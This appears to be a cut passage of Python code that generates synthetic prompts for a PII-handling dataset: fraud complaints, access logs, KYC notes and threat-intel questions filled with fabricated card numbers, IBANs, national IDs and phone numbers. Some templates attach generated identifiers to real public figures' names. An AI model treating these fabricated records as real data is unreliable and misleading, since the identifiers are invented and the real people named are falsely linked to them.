 "status": "needs_response",
 "evidence": {{"customer_name": "{p.full}", "customer_email_address": "{p.mail(c.web())}",
   "billing_address": "{a.line}", "customer_purchase_ip": "{c.ip("pub")}", "shipping_address": null}}}}"""


@T(FRD, "ro_frauda_whatsapp", "ro", 2)
def _ro_frauda_whatsapp(c: Ctx) -> str:
    p = c.person("ro")
    return f"""Te rog să-mi faci un rezumat în engleză pentru echipa de fraudă:

Client: {p.full}
IBAN: {c.iban("ro")}
Card: {c.card("visa", "mc")}
Clientul a primit un mesaj pe WhatsApp de la cineva care pretindea că e de la Poliția Română și a transferat \
9.800 lei. Telefon client: {c.phone("ro")}"""


@T(FRD, "ar_card_complaint", "ar", 1)
def _ar_card_complaint(c: Ctx) -> str:
    p = c.person("ar")
    cc = c.alt(["sa", "ae"])
    return f"""لخّص هذه الشكوى بالإنجليزية لفريق الاحتيال:

العميل: {p.full}
الآيبان: {c.iban(cc)}
رقم البطاقة: {c.card()}
الجوال: {c.phone(cc)}
العنوان: {c.addr("sa").line}
الشكوى: خُصم مبلغ 3,450 لمتجر إلكتروني لا يعرفه العميل، والبطاقة ما زالت معه."""


# =============================================================================================
# personal_access_identity
# =============================================================================================

@T(ACC, "badge_events_csv", "en", 3)
def _badge_events_csv(c: Ctx) -> str:
    a, b, d = c.people(3)
    if c.i == 1:
        an, bn, dn = (f'"{x.f}, {m("PERSON", x.given)}"' for x in (a, b, d))
    else:
        an, bn, dn = a.full, b.full, d.full
    return f"""Which of these badge events should I raise as tailgating or badge sharing? Export from the access \
control system:

timestamp,badge_id,cardholder,door,result
2025-03-04 07:58:12,0041877,{an},Lobby Turnstile 2,GRANTED
2025-03-04 07:58:15,0041877,{an},Lobby Turnstile 2,ANTI-PASSBACK
2025-03-04 08:01:40,0039122,{bn},Server Room B2,DENIED
2025-03-04 08:01:52,0039122,{bn},Server Room B2,DENIED
2025-03-04 08:02:10,0027740,{dn},Server Room B2,GRANTED
2025-03-04 22:47:03,0041877,{an},Loading Bay,GRANTED"""


@T(ACC, "de_zutritt_tsv", "de", 1)
def _de_zutritt_tsv(c: Ctx) -> str:
    a, b, d = c.person("de"), c.person("de"), c.person("de")
    rows = "\n".join(f"{t}\t{n}\t{p.f}\t{m('PERSON', p.given)}\t{door}\t{res}" for t, n, p, door, res in [
        ("21:58", "20417", a, "Haupteingang", "Zutritt"),
        ("22:31", "20388", b, "Rechenzentrum", "abgewiesen"),
        ("22:33", "20417", a, "Rechenzentrum", "Zutritt"),
        ("23:05", "20552", d, "Tiefgarage", "Zutritt"),
    ])
    return f"""Kannst du mir aus diesem Zutrittsprotokoll (Tab-getrennt) eine Liste machen, wer nach 22 Uhr im \
Gebäude war?

Zeit\tAusweis\tName\tVorname\tTür\tErgebnis
{rows}"""


@T(ACC, "visitor_log_list", "en", 1)
def _visitor_log_list(c: Ctx) -> str:
    v1, v2, v3, h1, h2 = c.people(5)
    cc = c.alt(["gb", "au"])
    return f"""Reformat this visitor log into a Markdown table and flag anyone still signed in after their host left:

- 09:10 {v1.full} (auditor, Deloitte) - host {h1.full} - mobile {c.phone(cc)} - out 11:45
- 09:32 {v2.full} (contractor, Kone lifts) - host {h2.full} - mobile {c.phone(cc)} - out 17:20
- 13:05 {v3.full} (interview) - host {h1.g} - mobile {c.phone(cc)} - out --
host {h1.g} badged out at 16:02."""


@T(ACC, "access_review_table", "en", 2)
def _access_review_table(c: Ctx) -> str:
    a, b, d, m1, m2 = c.people(5)
    grp = c.alt(["PaymentsAdmin", "Domain Admins", "SWIFT-Operators"])
    return f"""Quarterly access review for {grp}. Draft the e-mail to each manager asking them to confirm or \
revoke:

| user | login | manager | last login |
|---|---|---|---|
| {a.full} | {a.h("gf")} | {m1.full} | 2025-01-14 |
| {b.full} | {b.h("gf")} | {m1.full} | 2024-09-30 |
| {d.full} | {d.h("gf")} | {m2.full} | never |"""


@T(ACC, "leaver_ticket", "en", 2)
def _leaver_ticket(c: Ctx) -> str:
    p, mgr = c.person(), c.person()
    a = c.addr(c.alt(["za", "ie"]))
    return f"""Write the offboarding checklist for this leaver. The laptop has to be collected from home.

Leaver: {p.full} ({p.h("gf")}), last day Friday
Manager: {mgr.full}
Accounts: AD, Okta, Salesforce, GitHub (@{p.h("gfull")}), AWS SSO
Courier collection address:
{a.block}
Personal mobile for the courier: {c.phone(a.cc)}"""


@T(ACC, "getent_sudo_group", "en", 2)
def _getent_sudo_group(c: Ctx) -> str:
    a, x, b, y = c.people(4)
    ha, hx, hb, hy = a.h("g.f"), x.h("g.f"), b.h("g.f"), y.h("g.f")
    return f"""Who here shouldn't have sudo any more? HR says {x.full} left in January and {y.full} moved to marketing.

$ getent group sudo
sudo:x:27:{ha},{hx},{hb},{hy}
$ last -n 4
{ha}   pts/0   {c.ip("lan")}   Mon Mar  3 09:12   still logged in
{hx}   pts/1   {c.ip("pub")}   Sun Mar  2 23:48 - 23:59  (00:11)
{hb}   pts/2   {c.ip("lan")}   Fri Feb 28 17:03 - 18:40  (01:37)
{hy}   pts/0   {c.ip("lan")}   Thu Feb 27 10:15 - 10:20  (00:05)"""


@T(ACC, "sv_passerkort_avvikelse", "sv", 2)
def _sv_passerkort_avvikelse(c: Ctx) -> str:
    p, a = c.person("sv"), c.person("sv")
    town = c.alt(["Jokkmokk", "Arvidsjaur"])
    return f"""Kan du sammanfatta den här avvikelsen från passagesystemet till säkerhetschefen?

Kortinnehavare: {p.full}
Kortnummer: 7741-0092
Händelse: kortet användes i entrén på kontoret kl. 02:13, medan {p.g} enligt reseräkningen var i {loc(town)}.
Kontakt: {c.phone("se")}
Rapporterad av: {a.full}, väktare"""


@T(ACC, "ja_nyutaishitsu_log", "ja", 2)
def _ja_nyutaishitsu_log(c: Ctx) -> str:
    a, b = c.person("ja"), c.person("ja")
    return f"""入退室ログから、深夜にサーバールームへ入った人を抜き出して報告文を作ってください。

日時,カード番号,氏名,扉,結果
2025/04/08 23:41,10448,{a.full},サーバールームA,許可
2025/04/08 23:42,10448,{a.full},サーバールームA,許可
2025/04/09 00:15,10391,{b.full},通用口,拒否
2025/04/09 00:16,10391,{b.full},通用口,許可
{b.f}さんの携帯：{c.phone("jp")}"""


@T(ACC, "zh_menjin_jilu", "zh", 2)
def _zh_menjin_jilu(c: Ctx) -> str:
    a, b = c.person("zh"), c.person("zh")
    return f"""请根据下面的门禁记录写一份简短的异常说明（给安保主管）：

时间 | 卡号 | 姓名 | 门 | 结果
2025-06-03 02:17 | 88012 | {a.full} | 机房B | 通过
2025-06-03 02:19 | 88012 | {a.full} | 机房B | 通过
2025-06-03 02:25 | 77431 | {b.full} | 后门 | 拒绝
备注：{a.full}当晚未排班，联系电话 {c.phone(c.alt(["cn", "tw"]))}。"""


@T(ACC, "guard_chat_lower", "en", 3, case="lower")
def _guard_chat_lower(c: Ctx) -> str:
    g1, g2 = c.person(), c.person()
    p = c.person(sex="f")
    return f"""[22:41] {g1.g}: fyi someone tailgated in behind {p.full} at the side gate
[22:42] {g2.g}: the guy in the hi vis?
[22:42] {g1.g}: yeah. {p.g} says she doesnt know him
[22:44] {g2.g}: cctv cam 14 has him going up the east stairs
[22:45] {g1.g}: calling {p.g} back on {c.phone(c.alt(["gb", "au", "za"]))}
write this up as an incident report for the morning"""


@T(ACC, "cctv_requests_pipe", "en", 1)
def _cctv_requests_pipe(c: Ctx) -> str:
    a, b, s, t = c.people(4)
    return f"""Turn these CCTV footage requests into a table and tell me which ones need DPO sign-off:

REQ-551 | requested by {a.full} | subject: {s.full} | camera: car park 3 | reason: vehicle damage claim
REQ-552 | requested by {b.full} | subject: {t.full} | camera: till 4 | reason: suspected cash theft
REQ-553 | requested by {a.g} | subject: unknown male | camera: loading bay | reason: break-in attempt"""


@T(ACC, "fi_kulkukortti", "fi", 2)
def _fi_kulkukortti(c: Ctx) -> str:
    p, a = c.person("fi"), c.person("fi")
    return f"""Voitko kirjoittaa tästä lyhyen poikkeamaraportin turvallisuuspäällikölle?

Kulkukortti: 30112
Haltija: {p.full}
Tapahtuma: kortilla yritettiin avata palvelinhuoneen ovi 6 kertaa klo 03.10–03.14.
{p.g} kertoi puhelimessa ({c.phone("fi")}), että kortti katosi edellisenä iltana.
Raportoija: {a.full}"""


@T(ACC, "iam_request_yaml", "en", 1)
def _iam_request_yaml(c: Ctx) -> str:
    p, mgr = c.person(), c.person()
    return f"""Review this access request before it goes to the approvers. Is the scope too wide?

request_id: IAM-{c.n(10000, 99999)}
requester:
  name: {p.full}
  upn: {p.mail(c.corp())}
  manager: {mgr.full}
access:
  - system: aws-prod
    role: AdministratorAccess
    duration: permanent
justification: "need to fix the billing lambda before month end\""""


@T(ACC, "el_karta_prosvasis", "el", 1)
def _el_karta_prosvasis(c: Ctx) -> str:
    p, a = c.person("el"), c.person("el")
    return f"""Μπορείς να γράψεις μια σύντομη αναφορά για τον υπεύθυνο ασφαλείας;

Κάτοχος κάρτας: {p.full}
Αριθμός κάρτας: 55120
Συμβάν: η κάρτα χρησιμοποιήθηκε στην κεντρική είσοδο στις 01:40, ενώ ο/η {p.g} ήταν σε άδεια.
Τηλέφωνο: {c.phone("gr")}
Φύλακας βάρδιας: {a.full}"""


@T(ACC, "tl_guard_report", "tl", 2, case="lower")
def _tl_guard_report(c: Ctx) -> str:
    a, p = c.person("tl"), c.person("tl")
    return f"""pa-summarize naman in English, para sa incident log:

guard on duty: {a.full}
"Sir, may pumasok po sa bodega around 1am gamit yung ID ni {p.full}. Pero naka-leave po si {p.g} since Monday. \
Tinawagan ko na po siya sa {c.phone("ph")}, nawala daw po yung ID niya sa jeep kahapon.\""""


# =============================================================================================
# personal_kyc_compliance
# =============================================================================================

def own(c: Ctx, key: str) -> Person:
    """A named pool person, taken on purpose (counted as used)."""
    c.seen.add(key)
    c.use[("person", key)] += 1
    return PERSON_BY_KEY[key]


@T(KYC, "kyc_review_uk", "en", 3)
def _kyc_review_uk(c: Ctx) -> str:
    r = c.idrec("nino", "passport_gb", "passport_ng")
    p = r.p
    assert p is not None
    label = "NI number" if r.kind == "nino" else ("Passport no. (GBR)" if r.kind == "passport_gb" else "Passport no. (NGA)")
    a = c.addr("gb")
    funds = c.alt(["salary (NHS band 6) and savings", "sale of a flat in 2023", "self-employed plumber, 2 years' accounts"])
    return f"""Write the KYC review summary for the file and flag anything that doesn't reconcile.

Customer: {p.full}
DOB: {dobm(r, "uk")}
{label}: {r.v}
Address:
{a.block}
Mobile: {c.phone("gb")}
Source of funds: {funds}
Screening: no PEP or sanctions match; one adverse-media hit on a namesake with a different DOB."""


@T(KYC, "pep_namesake_hit", "en", 2)
def _pep_namesake_hit(c: Ctx) -> str:
    if c.i == 0:
        p = own(c, "da:Mette Frederiksen")
        rec = next(r for r in IDS if r.person_key == p.key)
        c.use[("id", rec.value)] += 1
        return f"""Our screening tool flagged a new customer as a PEP match for the Danish prime minister (same first \
and last name). Write the discounting rationale for the audit trail.

Customer: {p.full}
CPR: {rec.v}
DOB: {dobm(rec, "dash")}
Address: {c.addr("dk").line}
Phone: {c.phone("dk")}
Hit: Prime Minister of Denmark (PEP, tier 1), born 1977, match score 100 on name only."""
    p = own(c, "en:Mohamed Farah")
    return f"""Screening flagged this customer against adverse media about the British Olympic runner with the same \
name, and against two sanctions entries. Write the discounting note.

Customer: {p.full}, DOB {c.pdob(p, "uk")}
Address: {c.addr("gb").line}
Phone: {c.phone("gb")}
Occupation: bus driver, {c.pick(["Arriva", "Stagecoach"])}
Hits: the Olympic champion (athlete, not PEP); two OFAC SDN entries with an identical name and DOBs in the 1960s."""


@T(KYC, "sar_narrative", "en", 2)
def _sar_narrative(c: Ctx) -> str:
    p, q = c.person(), c.person()
    a = c.addr(c.alt(["gb", "ie"]))
    return f"""Help me tighten this SAR narrative. Don't drop any identifiers, the FIU needs them.

Subject 1: {p.full}, DOB {c.pdob(p, "uk")}, of {a.line}
Subject 2: {q.full} (associated; logs in from the same device)
Between 02/01 and 28/02 the account {c.iban(a.cc)} received 37 cash deposits under 1,000 at different branches, \
each followed within a day by a transfer to {c.iban("tr")}.
Subject 1's mobile {c.phone(a.cc)} is also registered on two other customers' profiles."""


@T(KYC, "insider_interview_notes", "en", 2)
def _insider_interview_notes(c: Ctx) -> str:
    p, inv, hr = c.person(), c.person(), c.person()
    cust = c.person(sex="f")
    a = c.addr(c.alt(["au", "nz"]))
    return f"""Summarise these investigation interview notes as findings. Keep it neutral, no conclusions on intent.

Interviewee: {p.full}, Customer Service Team Leader
Present: {inv.full} (Investigations), {hr.full} (HR)
- {p.g} confirmed looking up the account of {cust.full} 14 times in March
- said {cust.g} is a neighbour and "asked for help with her card"
- denied passing the address ({a.line}) to anyone outside the bank
- accepted that the look-ups breached the acceptable use policy"""


@T(KYC, "us_cip_record", "en", 2)
def _us_cip_record(c: Ctx) -> str:
    r = c.idrec("ssn")
    p = r.p
    assert p is not None
    a = c.addr("us")
    return f"""Review this CIP record before we open the account. Anything missing under the CIP rule?

Name: {p.full}
SSN: {r.v}
DOB: {dobm(r, c.alt(["us", "us_long"]))}
Address: {a.line}
Phone: {c.phone("us")}
ID: state driver's license, expires 2027 (copy on file)
OFAC: no match"""


@T(KYC, "pl_notatka_kyc", "pl", 2)
def _pl_notatka_kyc(c: Ctx) -> str:
    r = c.idrec("pesel")
    p = r.p
    assert p is not None
    return f"""Sprawdź, czy w tej notatce KYC niczego nie brakuje (wymogi ustawy o przeciwdziałaniu praniu pieniędzy):

Klient: {p.full}
PESEL: {r.v}
Data urodzenia: {dobm(r, "dot")}
Adres: {c.addr("pl").line}
Telefon: {c.phone("pl")}
Źródło środków: sprzedaż mieszkania, akt notarialny w aktach
Status PEP: nie"""


@T(KYC, "it_adeguata_verifica", "it", 2)
def _it_adeguata_verifica(c: Ctx) -> str:
    r = c.idrec("cf")
    p = r.p
    assert p is not None
    return f"""Prepara una nota di adeguata verifica rafforzata per questo cliente:

Cliente: {p.full}
Codice fiscale: {r.v}
Nato/a il: {dobm(r, "uk")}
Residenza: {c.addr("it").line}
Cellulare: {c.phone("it")}
Operatività anomala: 14 bonifici in entrata da {c.iban("de")} in 10 giorni, subito prelevati in contanti."""


@T(KYC, "fr_fiche_vigilance", "fr", 1)
def _fr_fiche_vigilance(c: Ctx) -> str:
    r = c.idrec("nir")
    p = r.p
    assert p is not None
    return f"""Relis cette fiche de vigilance et dis-moi ce qu'il faut compléter avant le comité LCB-FT :

Nom : {p.fam_first}
NIR : {r.v}
Date de naissance : {dobm(r, "fr")}
Adresse : {c.addr("fr").line}
Tél. : {c.phone("fr")}
Origine des fonds : succession (acte notarié manquant)"""


@T(KYC, "tr_masak_notu", "tr", 1)
def _tr_masak_notu(c: Ctx) -> str:
    r = c.idrec("tckn")
    p = r.p
    assert p is not None
    return f"""Bu müşteri tanıma notunu MASAK bildirimi için düzenler misin?

Ad Soyad: {p.full}
T.C. Kimlik No: {r.v}
Doğum tarihi: {dobm(r, "dot")}
Adres: {c.addr("tr").line}
GSM: {c.phone("tr")}
Not: hesaba 3 gün içinde 40 farklı kişiden küçük tutarlı havaleler gelmiş, hepsi kripto borsasına aktarılmış."""


@T(KYC, "zh_kehu_diaocha", "zh", 1)
def _zh_kehu_diaocha(c: Ctx) -> str:
    r = c.idrec("cn_ric")
    p = r.p
    assert p is not None
    return f"""请把这份客户尽职调查记录翻译成英文，给新加坡合规团队看：

客户姓名：{p.full}
身份证号：{r.v}
出生日期：{dobm(r, "cjk")}
住址：{c.addr("cn").line}
手机：{c.phone("cn")}
备注：客户三个月内通过多个第三方支付账户收款，金额与申报职业（小学教师）明显不符。"""


@T(KYC, "ko_gogaek_hwagin", "ko", 1)
def _ko_gogaek_hwagin(c: Ctx) -> str:
    r = c.idrec("kr_rrn")
    p = r.p
    assert p is not None
    return f"""다음 고객확인(KYC) 메모를 영어로 요약해 주세요.

성명: {p.full}
주민등록번호: {r.v}
주소: {c.addr("kr").line}
연락처: {c.phone("kr")}
특이사항: 해외 가상자산 거래소로 단기간 고액 송금, 직업은 대학생으로 신고함."""


@T(KYC, "he_kyc_summary", "he", 1)
def _he_kyc_summary(c: Ctx) -> str:
    r = c.idrec("il_id")
    p = r.p
    assert p is not None
    return f"""תכין בבקשה סיכום באנגלית של בדיקת "הכר את הלקוח":

שם: {p.full}
ת"ז: {r.v}
תאריך לידה: {dobm(r, "dot")}
כתובת: {c.addr("il").line}
טלפון: {c.phone("il")}
הערה: הפקדות מזומן חוזרות מתחת לסף הדיווח; לטענת הלקוח מדובר בהכנסות מעסק קטן."""


@T(KYC, "ro_fisa_client", "ro", 1)
def _ro_fisa_client(c: Ctx) -> str:
    r = c.idrec("cnp")
    p = r.p
    assert p is not None
    return f"""Te rog verifică dacă fișa de cunoaștere a clientului e completă:

Nume: {p.full}
CNP: {r.v}
Data nașterii: {dobm(r, "dot")}
Adresă: {c.addr("ro").line}
Telefon: {c.phone("ro")}
Sursa fondurilor: salariu și chirii (contractele de închiriere lipsesc)"""


@T(KYC, "hi_video_kyc", "hi", 1)
def _hi_video_kyc(c: Ctx) -> str:
    p = own(c, "hi:सुनीता यादव")
    aad = next(r for r in IDS if r.person_key == p.key and r.kind == "aadhaar")
    pan = next(r for r in IDS if r.person_key == p.key and r.kind == "pan")
    agent = c.person("hi")
    return f"""इस वीडियो KYC नोट को RBI की V-CIP चेकलिस्ट से मिलाकर बताइए कि क्या छूट गया है:

ग्राहक: {p.full}
आधार: {aad.v}
PAN: {pan.v}
जन्म तिथि: {dobm(aad, "uk")}
पता: {c.addr("in").line}
मोबाइल: {c.phone("in")}
एजेंट: {agent.full}; लाइवनेस जाँच पास, कॉल 11 मिनट चली।"""


@T(KYC, "nl_wwft_onderzoek", "nl", 1)
def _nl_wwft_onderzoek(c: Ctx) -> str:
    r = c.idrec("bsn")
    p = r.p
    assert p is not None
    return f"""Kun je dit cliëntonderzoek (Wwft) samenvatten voor de MLRO?

Naam: {p.full}
BSN: {r.v}
Geboortedatum: {dobm(r, "dash")}
Adres: {c.addr("nl").line}
Telefoon: {c.phone("nl")}
Signaal: contante stortingen via geldautomaten, telkens net onder € 2.000."""


@T(KYC, "sv_kundkannedom", "sv", 1)
def _sv_kundkannedom(c: Ctx) -> str:
    r = c.idrec("pnr")
    p = r.p
    assert p is not None
    return f"""Kan du skriva en kort kundkännedomsanteckning utifrån det här?

Kund: {p.full}
Personnummer: {r.v}
Adress: {c.addr("se").line}
Telefon: {c.phone("se")}
Ärende: stora Swish-insättningar från många olika avsändare; kunden säger att det är försäljning på Blocket."""


@T(KYC, "kyc_batch_csv", "en", 3)
def _kyc_batch_csv(c: Ctx) -> str:
    kinds = c.alt([("fnr", "hetu", "cpr", "pnr"), ("cz_rc", "taj", "amka", "nif_pt"),
                   ("mynumber", "th_id", "ca_sin", "za_id")])
    ccs = {"fnr": "NO", "hetu": "FI", "cpr": "DK", "pnr": "SE", "cz_rc": "CZ", "taj": "HU", "amka": "GR",
           "nif_pt": "PT", "mynumber": "JP", "th_id": "TH", "ca_sin": "CA", "za_id": "ZA"}
    recs = [c.idrec(k) for k in kinds]
    lines = []
    for r in recs:
        assert r.p is not None
        lines.append(f"{r.p.full},{ccs[r.kind]},{r.v},{dobm(r, 'iso')},pending")
    body = "\n".join(lines)
    return f"""The onboarding vendor sent this batch. Some national IDs look wrong to me. Can you tell me which \
country format each one follows and whether the DOB matches the ID where the ID encodes it?

name,country,national_id,dob,status
{body}"""


# ---------------------------------------------------------------------------------------------
# more personal templates (addresses and IDs of further countries)
# ---------------------------------------------------------------------------------------------

@T(FRD, "order_review_addresses", "en", 2)
def _order_review_addresses(c: Ctx) -> str:
    p = c.person()
    bill, ship = c.alt([("za", "ng"), ("ph", "ke")])
    ba, sa = c.addr(bill), c.addr(ship)
    return f"""Our fraud rules held this order. Billing and shipping countries differ; is it worth calling the \
customer or should we just cancel?

Order: WEB-{c.n(400000, 499999)}  Total: $1,874.00 (2x iPhone 16 Pro)
Customer: {p.full} <{p.mail(c.web())}>
Billing address: {ba.line}
Billing phone: {c.phone(bill)}
Shipping address: {sa.line}
Shipping phone: {c.phone(ship)}
Card: {c.card("visa", "mc")} (AVS: no match, 3DS: attempted)
IP: {c.ip("pub")}"""


@T(FRD, "ja_fusei_riyou", "ja", 1)
def _ja_fusei_riyou(c: Ctx) -> str:
    p = c.person("ja")
    a = c.addr("jp")
    return f"""次のカード不正利用の申告内容を、加盟店への照会文（英語）にまとめてください。

会員氏名：{p.full}
住所：{a.line}
電話番号：{c.phone("jp")}
カード番号：{c.card("jcb", "visa")}
申告内容：海外の通販サイトで三回、合計¥86,400の利用に覚えがない。カードは手元にある。"""


@T(FRD, "latam_contracargo", "es", 2, case=(None, "lower"))
def _latam_contracargo(c: Ctx) -> str:
    p = c.person("es", where=lambda q: q.culture in ("Mexican", "Chilean", "Venezuelan"))
    cc = c.alt(["mx", "co"])
    a = c.addr(cc)
    if c.i == 0:
        return f"""Ayúdame a redactar la respuesta al tarjetahabiente. El contracargo ya se abrió con Mastercard.

Titular: {p.full}
Tarjeta: {c.card("mc")}
Domicilio: {a.line}
Celular: {c.phone(cc)}
Cargo no reconocido: $7,850.00 MXN en una tienda de videojuegos en línea"""
    return f"""hola, les escribe {p.full}. me llegaron dos cobros que no hice con la tarjeta {c.card("visa")}, \
vivo en {a.line} y mi celular es {c.phone(cc)}. ya bloquee la tarjeta en la app. que sigue?
(ayúdame a contestarle por whatsapp, tono amable)"""


@T(ATO, "vi_tai_khoan_bi_chiem", "vi", 1, case="lower")
def _vi_tai_khoan_bi_chiem(c: Ctx) -> str:
    p = c.person("vi")
    a = c.addr("vn")
    return f"""tóm tắt giúp mình vụ này bằng tiếng anh nhé:
khách hàng: {p.full}, ngày sinh {c.pdob(p, "uk")}
địa chỉ: {a.line}
sđt: {c.phone("vn")}
khách bị gọi điện giả danh công an, cài app giả rồi bị chuyển mất 185 triệu đồng từ tài khoản."""


@T(ATO, "ru_zhaloba_klienta", "ru", 1)
def _ru_zhaloba_klienta(c: Ctx) -> str:
    p = c.person("ru")
    a = c.addr("ru")
    return f"""Составь, пожалуйста, вежливый ответ клиенту и перечисли, какие документы ему нужно принести в отделение.

Клиент: {p.full}
Дата рождения: {c.pdob(p, "dot")}
Адрес: {a.line}
Телефон: {c.phone("ru")}
Суть обращения: в личный кабинет зашли с нового устройства, сменили кодовое слово и оформили кредит на 300 000 ₽."""


@T(ATO, "pt_reclamacao_mbway", "pt", 1)
def _pt_reclamacao_mbway(c: Ctx) -> str:
    r = c.idrec("nif_pt")
    p = r.p
    assert p is not None
    a = c.addr("pt")
    return f"""Ajuda-me a responder a esta reclamação. O cliente caiu num esquema de MB WAY num site de anúncios.

Cliente: {p.full}
NIF: {r.v}
Morada: {a.line}
Telemóvel: {c.phone("pt")}
Resumo: o "comprador" pediu-lhe para ir ao multibanco "receber" o pagamento e ele associou o número do burlão à \
sua conta. Foram levantados 750 €."""


@T(KYC, "el_kyc_amka", "el", 1)
def _el_kyc_amka(c: Ctx) -> str:
    r = c.idrec("amka")
    p = r.p
    assert p is not None
    return f"""Συνόψισε στα αγγλικά αυτόν τον έλεγχο πελάτη (KYC) για τη μονάδα συμμόρφωσης:

Ονοματεπώνυμο: {p.full}
ΑΜΚΑ: {r.v}
Ημερομηνία γέννησης: {dobm(r, "uk")}
Διεύθυνση: {c.addr("gr").line}
Τηλέφωνο: {c.phone("gr")}
Σημείωση: πολλές καταθέσεις μετρητών κάτω από το όριο, ο πελάτης δηλώνει ενοικιάσεις βραχυχρόνιας διάρκειας."""


@T(KYC, "cs_kyc_rodne_cislo", "cs", 1)
def _cs_kyc_rodne_cislo(c: Ctx) -> str:
    r = c.idrec("cz_rc")
    p = r.p
    assert p is not None
    return f"""Zkontroluj prosím tento záznam o identifikaci klienta podle AML zákona. Chybí něco?

Jméno: {p.full}
Rodné číslo: {r.v}
Adresa: {c.addr("cz").line}
Telefon: {c.phone("cz")}
Poznámka: chce zaplatit nemovitost v hotovosti, 2,4 mil. Kč."""


@T(KYC, "hu_ugyfelatvilagitas", "hu", 1)
def _hu_ugyfelatvilagitas(c: Ctx) -> str:
    r = c.idrec("taj")
    p = r.p
    assert p is not None
    return f"""Foglald össze angolul ezt az ügyfél-átvilágítási jegyzetet:

Név: {p.full}
TAJ-szám: {r.v}
Születési idő: {dobm(r, "hu")}
Lakcím: {c.addr("hu").line}
Telefon: {c.phone("hu")}
Megjegyzés: rövid időn belül sok kisebb átutalás érkezett külföldi számlákról."""


@T(KYC, "no_kundekontroll", "no", 1)
def _no_kundekontroll(c: Ctx) -> str:
    r = c.idrec("fnr")
    p = r.p
    assert p is not None
    return f"""Kan du oppsummere denne kundekontrollen på engelsk?

Navn: {p.full}
Fødselsnummer: {r.v}
Adresse: {c.addr("no").line}
Telefon: {c.phone("no")}
Merknad: store innskudd fra kryptobørs, kunden oppgir gevinst på Bitcoin."""


@T(KYC, "fi_asiakkaan_tunteminen", "fi", 1)
def _fi_asiakkaan_tunteminen(c: Ctx) -> str:
    r = c.idrec("hetu")
    p = r.p
    assert p is not None
    return f"""Tee tästä lyhyt asiakkaan tuntemisen muistio englanniksi:

Nimi: {p.full}
Henkilötunnus: {r.v}
Osoite: {c.addr("fi").line}
Puhelin: {c.phone("fi")}
Huomio: tilille tulee säännöllisesti käteistalletuksia, asiakas kertoo myyvänsä autoja."""


# =============================================================================================
# clean_threat_intel (PII-free)
# =============================================================================================

@T(CTI, "apt_profile_brief", "en", 3)
def _apt_profile_brief(c: Ctx) -> str:
    group, aliases, ops = c.alt([
        ("APT29", "Cozy Bear, Midnight Blizzard, Nobelium",
         "the SolarWinds Orion supply-chain compromise and the 2024 intrusion into Microsoft's corporate mailboxes"),
        ("Lazarus Group", "Hidden Cobra, Diamond Sleet",
         "the Bangladesh Bank SWIFT heist, WannaCry and the 3CX supply-chain attack"),
        ("Sandworm", "Voodoo Bear, Seashell Blizzard, APT44", "NotPetya, Industroyer in Kyiv and the Viasat KA-SAT outage"),
    ])
    return f"""Write a one-page profile of {group} ({aliases}) for our board briefing: suspected sponsor, notable \
operations ({ops}), and the ATT&CK techniques we should prioritise. Keep it factual and cite Mandiant, Microsoft \
Threat Intelligence or CISA where you can."""


@T(CTI, "cve_kev_table", "en", 3)
def _cve_kev_table(c: Ctx) -> str:
    rows = c.alt([
        [("CVE-2021-44228", "Apache Log4j 2 (Log4Shell)", "10.0"), ("CVE-2023-34362", "Progress MOVEit Transfer", "9.8"),
         ("CVE-2024-3400", "Palo Alto PAN-OS GlobalProtect", "10.0"), ("CVE-2014-0160", "OpenSSL (Heartbleed)", "7.5")],
        [("CVE-2023-4966", "Citrix NetScaler (Citrix Bleed)", "9.4"), ("CVE-2021-26855", "Exchange (ProxyLogon)", "9.1"),
         ("CVE-2020-1472", "Netlogon (Zerologon)", "10.0"), ("CVE-2022-30190", "MSDT (Follina)", "7.8")],
        [("CVE-2017-0144", "SMBv1 (EternalBlue)", "8.8"), ("CVE-2024-21762", "Fortinet FortiOS SSL VPN", "9.8"),
         ("CVE-2023-20198", "Cisco IOS XE web UI", "10.0"), ("CVE-2019-19781", "Citrix ADC (Shitrix)", "9.8")],
    ])
    body = "\n".join(f"| {a} | {b} | {s} |" for a, b, s in rows)
    return f"""Sort this by CVSS and add a column saying whether each one is on the CISA KEV list:

| CVE | product | CVSS |
|---|---|---|
{body}"""


@T(CTI, "malware_family_questions", "en", 3, case=(None, None, "lower"))
def _malware_family_questions(c: Ctx) -> str:
    return c.alt([
        ("What's the difference between Emotet, TrickBot and Qakbot as loaders, and why did the Conti crew rely on "
         "them so much before Operation Endgame?"),
        ("Is Agent Tesla still around? And how do Raccoon Stealer, Lumma and RedLine compare as infostealers sold "
         "as a service?"),
        ("explain how pegasus (nso group) differs from predator (intellexa) and hermit, in terms of how they get "
         "onto the phone. one paragraph each"),
    ])


@T(CTI, "ioc_stix_doc_ranges", "en", 2)
def _ioc_stix_doc_ranges(c: Ctx) -> str:
    return c.alt([
        """Convert these IOCs from our tabletop exercise into a STIX 2.1 bundle (they're all documentation ranges):

- 198.51.100.23 (Cobalt Strike team server, 443/tcp)
- 203.0.113.77 (Sliver staging)
- update-check.example.net (C2 domain)
- SHA-256 e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855 (dropper)""",
        """Write a Suricata rule for each of these made-up indicators for the lab:

192.0.2.15:8443  -> Havoc C2
198.51.100.200   -> Mythic HTTP profile
cdn-assets.example.org -> Brute Ratel C4 redirector""",
    ])


@T(CTI, "de_lagebild", "de", 3, case=(None, None, "lower"))
def _de_lagebild(c: Ctx) -> str:
    return c.alt([
        ("Fasse den aktuellen BSI-Lagebericht für unseren Vorstand auf einer Seite zusammen: Ransomware-Gruppen wie "
         "LockBit, Black Basta und Akira, dazu der Angriff auf die Südwestfalen-IT 2023."),
        ("Was ist über Fancy Bear (APT28) bekannt, die Gruppe hinter dem Bundestags-Hack von 2015? Bitte mit den "
         "Aliasnamen, die Microsoft und CrowdStrike verwenden."),
        ("kannst du mir kurz erklären, was bei der operation endgame gegen emotet, icedid und smokeloader passiert ist "
         "und welche rolle das bka dabei hatte"),
    ])


@T(CTI, "fr_synthese_cert", "fr", 1)
def _fr_synthese_cert(c: Ctx) -> str:
    return c.alt([
        ("Résume l'alerte du CERT-FR sur les vulnérabilités Ivanti Connect Secure (CVE-2023-46805 et CVE-2024-21887) "
         "pour notre comité de sécurité, en cinq points."),
        ("Qui était derrière le rançongiciel qui a frappé l'hôpital de Corbeil-Essonnes en 2022 ? On parle de LockBit "
         "3.0, mais je veux la chronologie et ce qu'a publié l'ANSSI."),
    ])


@T(CTI, "ja_kyoi_joho", "ja", 1)
def _ja_kyoi_joho(c: Ctx) -> str:
    return c.alt([
